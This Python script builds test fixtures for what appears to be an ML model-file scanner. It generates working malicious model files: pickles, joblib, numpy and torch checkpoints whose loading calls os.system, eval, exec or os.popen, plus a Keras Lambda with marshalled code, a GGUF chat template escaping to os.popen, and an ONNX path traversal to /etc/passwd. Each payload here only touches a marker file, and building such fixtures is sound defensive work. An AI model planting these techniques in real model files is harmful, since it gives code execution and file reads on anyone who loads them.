"""Build the example project's generated files: models, safe and unsafe, a notebook, a dataset.

Nothing malicious, secret or personal is committed to the repository: every unsafe artifact is
made here, by code, with the same libraries that make real ones; the notebook's Hugging Face
token and the customer table come from :mod:`workspace_files` (a random token, Faker people).

Each payload would only create an empty marker file if it ever ran
(``touch /tmp/mlwarden-demo-pwned``), and none of them is ever run: a pickle payload is an
object whose ``__reduce__`` names a callable, and pickling only records that name; the Keras,
GGUF and ONNX payloads are written as data.

    python examples/build_artifacts.py [--project examples/project] [--out PROJECT/models]
                                       [--marker PATH]
"""

from __future__ import annotations

import argparse
import builtins
import importlib.util
import json
import os
import pickle
import shutil
import subprocess
import sys
import tempfile
import time
import types
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from workspace_files import build_customers, build_notebook

HERE = Path(__file__).resolve().parent
PROJECT = HERE / "project"
DEFAULT_OUT = PROJECT / "models"
DEFAULT_MARKER = Path(tempfile.gettempdir()) / "mlwarden-demo-pwned"


@dataclass(frozen=True)
class BuiltArtifact:
    """One file written by :func:`build`, and what it holds."""

    path: Path
    safe: bool
    holds: str


class ReducePayload:
    """An object that pickles as a call of ``function(*args)``.

    Pickling records only the callable's module and name and the arguments; it calls nothing.
    Loading the result would make the call, which is exactly what a scanner must catch.
    """

    def __init__(self, function: Callable[..., Any], *args: Any) -> None:
        self.function = function
        self.args = args

    def __reduce__(self) -> tuple[Any, ...]:
        return self.function, self.args


def _touch_command(marker: Path) -> str:
    return f"touch {marker}"


def _load_training_module() -> types.ModuleType:
    spec = importlib.util.spec_from_file_location("review_training", PROJECT / "train.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def build_safe(out: Path) -> list[BuiltArtifact]:
    """Train the classifier and export it: joblib pipeline, torch state dict, safetensors."""
    training = _load_training_module()
    texts, labels = training.load_reviews(PROJECT / "data" / "reviews.csv")
    pipeline = training.train_pipeline(texts, labels)
    joblib_path, torch_path, safetensors_path = training.export(pipeline, out)
    return [
        BuiltArtifact(joblib_path, True, "scikit-learn pipeline (joblib)"),
        BuiltArtifact(torch_path, True, "torch state dict of the linear head (torch.save)"),
        BuiltArtifact(safetensors_path, True, "the same head as safetensors"),
    ]


def build_torch_checkpoint(out: Path, marker: Path) -> BuiltArtifact:
    """A real ``torch.save`` zip checkpoint whose data.pkl also carries an os.system call."""
    import torch

    head = torch.nn.Linear(8, 1)
    checkpoint = {
        "state_dict": head.state_dict(),
        "epoch": 3,
        "callback": ReducePayload(os.system, _touch_command(marker)),
    }
    path = out / "finetuned_head.pt"
    torch.save(checkpoint, path)
    return BuiltArtifact(path, False, "torch zip checkpoint, data.pkl calls os.system")


def build_pickle_bin(out: Path, marker: Path) -> BuiltArtifact:
    """A ``pytorch_model.bin`` that is a plain pickle calling subprocess.call."""
    payload = ReducePayload(subprocess.call, ["touch", str(marker)])
    path = out / "pytorch_model.bin"
    # fix_imports=False keeps the Python 3 module name (protocol 2 would say "commands").
    path.write_bytes(pickle.dumps({"model_state": payload}, protocol=2, fix_imports=False))
    return BuiltArtifact(path, False, "plain pickle named pytorch_model.bin, subprocess.call")


def build_joblib(out: Path, marker: Path) -> BuiltArtifact:
    """A joblib file whose pickle evaluates an expression on load."""
    import joblib
    import numpy as np

    expression = f"__import__('os').system({_touch_command(marker)!r})"
    model = {
        "weights": np.arange(16, dtype=np.float32),
        "postprocess": ReducePayload(eval, expression),
    }
    path = out / "sentiment_v2.joblib"
    joblib.dump(model, path)
    return BuiltArtifact(path, False, "joblib pickle calling builtins.eval")


def build_numpy(out: Path, marker: Path) -> BuiltArtifact:
    """A ``.npy`` object array: its data is a pickle, here one that calls builtins.exec."""
    import numpy as np

    statement = f"import os; os.system({_touch_command(marker)!r})"
    array = np.empty(2, dtype=object)
    array[0] = "vocabulary"
    array[1] = ReducePayload(exec, statement)
    path = out / "embeddings.npy"
    np.save(path, array, allow_pickle=True)
    return BuiltArtifact(path, False, "numpy object array whose pickle calls builtins.exec")


def build_disguised_pickle(out: Path, marker: Path) -> BuiltArtifact:
    """A pickle named ``.txt``: kinds come from content, so it is still read as a pickle."""
    path = out / "notes.txt"
    path.write_bytes(pickle.dumps([ReducePayload(os.popen, _touch_command(marker))], protocol=4))
    return BuiltArtifact(path, False, "pickle named .txt, calls os.popen")


def _payload_function(marker: Path) -> types.FunctionType:
    # The function object is made from compiled code without running any of it.
    source = f"lambda x: __import__('os').system({_touch_command(marker)!r}) or x"
    module_code = compile(source, "<lambda>", "eval")
    code = next(c for c in module_code.co_consts if isinstance(c, types.CodeType))
    return types.FunctionType(code, {"__builtins__": builtins})


def build_keras(out: Path, marker: Path) -> BuiltArtifact | None:
    """A ``.keras`` model with a Lambda layer whose marshalled code runs os.system."""
    os.environ.setdefault("KERAS_BACKEND", "torch")
    try:
        import keras
    except ImportError as exc:
        print(f"note: keras is not installed ({exc}); skipping the .keras artifact")
        return None
    inputs = keras.Input(shape=(4,), name="features")
    lambda_layer = keras.layers.Lambda(lambda x: x * 2.0, output_shape=(4,), name="scale")
    outputs = keras.layers.Dense(1, name="score")(lambda_layer(inputs))
    model = keras.Model(inputs, outputs, name="review_scorer")
    # Swapped in after the model is built, so the payload is serialised but never called.
    lambda_layer.function = _payload_function(marker)
    path = out / "review_scorer.keras"
    model.save(path)
    return BuiltArtifact(path, False, "keras model with a Lambda layer (marshalled code)")


def build_gguf(out: Path, marker: Path) -> BuiltArtifact:
    """A GGUF model whose chat template reaches os.popen through Jinja globals."""
    import gguf
    import numpy as np

    template = (
        "{% for message in messages %}{{ message['role'] }}: {{ message['content'] }}\n"
        "{% endfor %}"
        f"{{{{ cycler.__init__.__globals__.os.popen({_touch_command(marker)!r}).read() }}}}"
    )
    path = out / "review-chat.gguf"
    writer = gguf.GGUFWriter(str(path), "llama")
    writer.add_name("review-chat")
    writer.add_context_length(128)
    writer.add_chat_template(template)
    writer.add_tensor("token_embd.weight", np.zeros((4, 8), dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    return BuiltArtifact(path, False, "GGUF with a chat template that calls os.popen")


def build_onnx(out: Path) -> BuiltArtifact:
    """An ONNX model whose initializer's external data points outside the model directory."""
    import onnx
    from onnx import TensorProto, helper

    weight = TensorProto(name="weight", data_type=TensorProto.FLOAT, dims=[4, 1])
    weight.data_location = TensorProto.EXTERNAL
    for key, value in (("location", "../../etc/passwd"), ("offset", "0"), ("length", "16")):
        entry = weight.external_data.add()
        entry.key, entry.value = key, value
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["features", "weight"], ["score"])],
        "review_scorer",
        [helper.make_tensor_value_info("features", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("score", TensorProto.FLOAT, [1, 1])],
        initializer=[weight],
    )
    model = helper.make_model(
        graph, producer_name="review-export", opset_imports=[helper.make_opsetid("", 17)]
    )
    path = out / "review_scorer.onnx"
    path.write_bytes(model.SerializeToString())
    assert onnx.__version__  # the file was made by the real library
    return BuiltArtifact(path, False, "ONNX external data at ../../etc/passwd")


def build_remote_code_config(out: Path) -> BuiltArtifact:
    """A Hugging Face config.json that maps the auto classes to code shipped with the model."""
    config = {
        "architectures": ["ReviewClassifier"],
        "auto_map": {
            "AutoConfig": "configuration_review.ReviewConfig",
            "AutoModelForSequenceClassification": "modeling_review.ReviewClassifier",
        },
        "model_type": "review-classifier",
        "hidden_size": 64,
        "num_labels": 2,
        "torch_dtype": "float32",
        "transformers_version": "4.36.0",
    }
    folder = out / "remote-code"
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "config.json"
    path.write_text(json.dumps(config, indent=2) + "\n", encoding="utf-8")
    return BuiltArtifact(path, False, "Hugging Face config.json with auto_map (remote code)")


def build(out: Path = DEFAULT_OUT, marker: Path = DEFAULT_MARKER) -> list[BuiltArtifact]:
    """Write the safe artifacts to ``out/safe`` and the unsafe ones to ``out/unsafe``.

    Both folders are emptied first. Returns what was written, in order.
    """
    safe, unsafe = out / "safe", out / "unsafe"
    for folder in (safe, unsafe):
        shutil.rmtree(folder, ignore_errors=True)
        folder.mkdir(parents=True)
    built = build_safe(safe)
    built += [
        build_torch_checkpoint(unsafe, marker),
        build_pickle_bin(unsafe, marker),
        build_joblib(unsafe, marker),
        build_numpy(unsafe, marker),
        build_disguised_pickle(unsafe, marker),
        build_gguf(unsafe, marker),
        build_onnx(unsafe),
        build_remote_code_config(unsafe),
    ]
    keras_model = build_keras(unsafe, marker)
    if keras_model is not None:
        built.append(keras_model)
    return built


def build_workspace(project: Path = PROJECT) -> list[BuiltArtifact]:
    """Write the exploration notebook and the customer table into the project folder."""
    notebook = project / "notebooks" / "explore.ipynb"
    customers = project / "data" / "customers.csv"
    build_notebook(notebook)
    rows = build_customers(customers)
    return [
        BuiltArtifact(notebook, False, "notebook: pasted HF token, curl | bash, torch.load"),
        BuiltArtifact(customers, False, f"{len(rows)} made-up customers: names, contacts, IBANs"),
    ]


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="Build the example project's model artifacts.")
    parser.add_argument(
        "--project",
        type=Path,
        default=PROJECT,
        help="project folder that gets notebooks/explore.ipynb and data/customers.csv",
    )
    parser.add_argument(
        "--out", type=Path, default=None, help="model output folder (default: PROJECT/models)"
    )
    parser.add_argument(
        "--marker",
        type=Path,
        default=DEFAULT_MARKER,
        help="file every payload would create if it ever ran",
    )
    args = parser.parse_args(argv)
    started = time.monotonic()
    marker_before = args.marker.exists()
    built = build(args.out or args.project / "models", args.marker)
    built += build_workspace(args.project)
    for item in built:
        label = "safe  " if item.safe else "UNSAFE"
        print(f"{label}  {item.path}  ({item.holds})")
    print(f"built {len(built)} files in {time.monotonic() - started:.1f}s")
    if args.marker.exists() and not marker_before:
        print(f"error: marker {args.marker} exists: something ran a payload", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
